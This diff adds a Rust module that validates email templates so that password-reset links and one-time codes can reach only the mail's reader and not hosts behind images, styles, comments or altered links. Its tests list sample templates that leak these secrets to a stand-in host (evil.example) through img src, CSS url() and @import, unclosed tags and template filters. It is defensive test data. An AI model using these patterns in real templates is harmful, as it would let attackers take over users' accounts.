@@ -1,0 +1,302 @@
+//! Where a template may say what proves its reader: a link or a code belongs to whoever reads the mail, and to nobody whom
+//! the mail's pictures, styles or other links lead to. It is written as it is, stands in the words between blanks, or is the
+//! whole address behind an `<a>`. What staff may write, staff may not read.
+
+use html5gum::{DefaultEmitter, Error, Token, Tokenizer};
+use sereno_types::EmailSource;
+
+use super::super::mails::Rendered;
+use super::engine::{Fault, Part};
+use super::scan::{self, Place};
+
+/// Elements whose content is no text.
+const RAW: [&[u8]; 11] = [
+    b"script",
+    b"style",
+    b"title",
+    b"textarea",
+    b"xmp",
+    b"iframe",
+    b"noembed",
+    b"noframes",
+    b"noscript",
+    b"plaintext",
+    b"svg",
+];
+
+const ALONE: &str = "stands by itself: as {{ name }}, or {% if name %}";
+const MISPLACED: &str =
+    "link and code stand between blanks, or as the whole href of an a: anywhere else they could be read by others";
+const UNFINISHED: &str = "a tag or a comment has no end";
+
+/// What is wrong with how a source uses these variables: taken apart, compared or changed they could be told in pieces.
+#[must_use]
+pub fn used(source: &EmailSource, secrets: &[&str]) -> Vec<Fault> {
+    Part::of(source)
+        .into_iter()
+        .filter_map(|(part, text)| {
+            let (place, name) = changed(text, secrets)?;
+            Some(Fault::at(part, place, ALONE.replace("name", name)))
+        })
+        .collect()
+}
+
+/// The first expression that does more with a secret than say it.
+fn changed<'a>(source: &str, secrets: &[&'a str]) -> Option<(Place, &'a str)> {
+    let mut at = 0;
+    while let Some(found) = source[at..].find('{') {
+        let open = at + found;
+        let rest = &source[open..];
+        let close = match rest.get(..2) {
+            Some("{{") => "}}",
+            Some("{%") => "%}",
+            Some("{#") => "#}",
+            _ => {
+                at = open + 1;
+                continue;
+            }
+        };
+        let end = rest.find(close)?;
+        let inner = rest[2..end].trim_matches(['-', '+']).trim();
+        at = open + end + close.len();
+        if close == "#}" {
+            continue;
+        }
+        let words = inner.split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
+        let Some(name) = secrets.iter().find(|name| words.clone().any(|word| word == **name)) else {
+            continue;
+        };
+        let tidy: Vec<&str> = inner.split_whitespace().collect();
+        let is_plain = match close {
+            "}}" => inner == *name,
+            _ => match tidy.as_slice() {
+                ["if" | "elif", said] | ["if" | "elif", "not", said] => said == name,
+                _ => false,
+            },
+        };
+        if !is_plain {
+            return Some((scan::place(source, open), name));
+        }
+    }
+    None
+}
+
+/// What is wrong with where a mail says these values.
+#[must_use]
+pub fn placed(said: &Rendered, secrets: &[&str]) -> Vec<Fault> {
+    let mut faults = Vec::new();
+    let refuse = |part, words: &str| Fault::at(part, Place::FIRST, words);
+    for (part, text) in [(Part::Subject, &said.subject), (Part::Text, &said.text)] {
+        if !between_blanks(text, secrets) {
+            faults.push(refuse(part, MISPLACED));
+        }
+    }
+    if let Err(words) = in_html(&said.html, secrets) {
+        faults.push(refuse(Part::Html, words));
+    }
+    faults
+}
+
+fn in_html(html: &str, secrets: &[&str]) -> Result<(), &'static str> {
+    let mut emitter = DefaultEmitter::default();
+    emitter.naively_switch_states(true);
+    let mut words = String::new();
+    let mut raw = 0_usize;
+    // where nothing is decoded, `&` may stand as it was escaped
+    let pieces: Vec<&str> = secrets
+        .iter()
+        .flat_map(|secret| secret.split('&'))
+        .filter(|piece| piece.len() > 5)
+        .collect();
+    let holds = |bytes: &[u8]| {
+        let text = String::from_utf8_lossy(bytes);
+        pieces.iter().any(|piece| text.contains(piece))
+    };
+    for Ok(token) in Tokenizer::new_with_emitter(html, emitter) {
+        if !matches!(token, Token::String(_) | Token::Error(_)) && !between_blanks(&std::mem::take(&mut words), secrets)
+        {
+            return Err(MISPLACED);
+        }
+        match token {
+            Token::String(text) if raw > 0 && holds(&text) => return Err(MISPLACED),
+            Token::String(text) => words.push_str(&String::from_utf8_lossy(&text)),
+            Token::StartTag(tag) => {
+                let is_link = tag.name.as_slice() == b"a";
+                for (name, value) in &tag.attributes {
+                    let whole = String::from_utf8_lossy(value);
+                    let is_whole = secrets.contains(&whole.trim());
+                    if holds(name) || (holds(value) && !(is_link && name.as_slice() == b"href" && is_whole)) {
+                        return Err(MISPLACED);
+                    }
+                }
+                if holds(&tag.name) {
+                    return Err(MISPLACED);
+                }
+                raw += usize::from(RAW.contains(&tag.name.as_slice()) && !tag.self_closing);
+            }
+            Token::EndTag(tag) => raw = raw.saturating_sub(usize::from(RAW.contains(&tag.name.as_slice()))),
+            Token::Comment(text) if holds(&text) => return Err(MISPLACED),
+            Token::Doctype(kind) if holds(&kind.name) => return Err(MISPLACED),
+            // what has no end would take in what the layout puts behind it
+            Token::Error(error) if is_open(error.value) => return Err(UNFINISHED),
+            Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
+        }
+    }
+    if between_blanks(&words, secrets) {
+        Ok(())
+    } else {
+        Err(MISPLACED)
+    }
+}
+
+const fn is_open(error: Error) -> bool {
+    matches!(
+        error,
+        Error::EofInTag | Error::EofInComment | Error::EofBeforeTagName | Error::EofInDoctype | Error::EofInCdata
+    )
+}
+
+/// Whether each value is a word of its own, with nothing around it but brackets, quotation marks and full stops: a mail
+/// program makes an address of whatever looks like one, and takes along what hangs on it.
+fn between_blanks(text: &str, secrets: &[&str]) -> bool {
+    let is_around = |c: char| {
+        !c.is_ascii_alphanumeric()
+            && !matches!(
+                c,
+                '/' | ':' | '@' | '?' | '&' | '=' | '#' | '%' | '_' | '-' | '+' | '\\'
+            )
+    };
+    secrets.iter().filter(|secret| !secret.is_empty()).all(|secret| {
+        text.match_indices(secret).all(|(at, _)| {
+            let before = text[..at]
+                .rsplit(|c: char| c.is_ascii_whitespace())
+                .next()
+                .unwrap_or("");
+            let after = text[at + secret.len()..]
+                .split(|c: char| c.is_ascii_whitespace())
+                .next()
+                .unwrap_or("");
+            before.chars().all(|c| is_around(c) && !c.is_alphanumeric() && c != '.')
+                && after.chars().all(|c| is_around(c) && !c.is_alphanumeric())
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const LINK: &str = "https://id.example.org/account/reset?token=abc&x=1";
+    const CODE: &str = "1234-5678";
+
+    fn html(text: &str) -> bool {
+        let said = Rendered {
+            subject: "Reset".to_owned(),
+            text: format!("Open\n{LINK}\nor type {CODE}."),
+            html: text
+                .replace("{{ link }}", &LINK.replace('&', "&amp;"))
+                .replace("{{ code }}", CODE),
+        };
+        placed(&said, &[LINK, CODE]).is_empty()
+    }
+
+    #[test]
+    fn a_reader_sees_or_clicks_a_secret() {
+        for good in [
+            r#"<p>Open <a class="x" href="{{ link }}">{{ link }}</a> or type <b>{{ code }}</b>.</p>"#,
+            "<p>Your code (valid once): {{ code }}.</p>",
+            r#"<p>“{{ code }}”</p><a href=' {{ link }} '>Set</a><img src="https://cdn.example/logo.png">"#,
+            "<!--[if mso]><table><![endif]--><style>p { color: red }</style><p>{{ code }}</p>",
+        ] {
+            assert!(html(good), "{good}");
+        }
+    }
+
+    #[test]
+    fn nobody_else_gets_one() {
+        for evil in [
+            r#"<img src="https://evil.example/?{{ link }}">"#,
+            r#"<img src="{{ link }}">"#,
+            r#"<a href="https://evil.example/?{{ link }}">Set</a>"#,
+            r#"<a href="{{ link }}&to=evil">Set</a>"#,
+            r#"<area href="{{ link }}">"#,
+            r#"<p style="background: url(https://evil.example/{{ code }})">x</p>"#,
+            "<style>p { background: url(https://evil.example/?{{ code }}) }</style>",
+            r#"<style></style><style>@import "https://evil.example/?{{ link }}"</style>"#,
+            "<p>https://evil.example/?{{ code }}</p>",
+            "<p>{{ code }}.evil.example</p>",
+            "<p>evil.example:{{ code }}</p>",
+            "<p>evil.example/&#x2f;{{ code }}</p>",
+            "<!-- {{ link }} -->",
+            r#"<img alt=">" src="https://evil.example/?{{ link }}">"#,
+            r#"<img alt=a"b src=https://evil.example/?{{ code }}>"#,
+            "<img src='https://evil.example/? {{ code }} '>",
+            r#"<p>{{ code }}</p><img src="https://evil.example/?"#,
+            "<p>{{ code }}</p><!-- ",
+            "<textarea>{{ code }}</textarea>",
+            "<p {{ code }}=1>x</p>",
+            r#"<svg><image href="https://evil.example/?{{ code }}"/></svg>"#,
+        ] {
+            assert!(!html(evil), "{evil}");
+        }
+    }
+
+    #[test]
+    fn in_plain_text_it_is_a_word() {
+        let said = |text: &str| {
+            let text = text.replace("{{ link }}", LINK).replace("{{ code }}", CODE);
+            let said = Rendered {
+                subject: String::new(),
+                html: String::new(),
+                text,
+            };
+            placed(&said, &[LINK, CODE]).is_empty()
+        };
+        for good in [
+            "{{ code }}",
+            "Open {{ link }}.",
+            "<{{ link }}>\n({{ code }})",
+            "> {{ link }}\r\n",
+        ] {
+            assert!(said(good), "{good}");
+        }
+        for evil in [
+            "https://evil.example/?{{ link }}",
+            "evil.example/{{ code }}",
+            "{{ code }}.evil.example",
+            "a{{ code }}",
+        ] {
+            assert!(!said(evil), "{evil}");
+        }
+    }
+
+    #[test]
+    fn a_secret_is_not_taken_apart() {
+        let source = |html: &str| EmailSource {
+            subject: "x".to_owned(),
+            text: "x".to_owned(),
+            html: html.to_owned(),
+        };
+        for good in [
+            "{{ code }}",
+            "{{- link -}}",
+            "{% if code %}{{ code }}{% elif not link %}x{% endif %}",
+            "{# code|first #}{{ encode }}{{ name|upper }}",
+        ] {
+            assert_eq!(used(&source(good), &["link", "code"]), [], "{good}");
+        }
+        for evil in [
+            "{{ code|first }}",
+            "{{ code[0] }}",
+            "{% for c in code %}{{ c }}{% endfor %}",
+            r#"{% if code == "1" %}<img src="https://evil.example/1">{% endif %}"#,
+            r#"{% if "1" in code %}x{% endif %}"#,
+            "{{ name or link }}",
+            "{{ link|lower }}",
+        ] {
+            let faults = used(&source(evil), &["link", "code"]);
+            assert_eq!(faults.len(), 1, "{evil}");
+            assert_eq!(faults[0].part, Part::Html);
+        }
+    }
+}
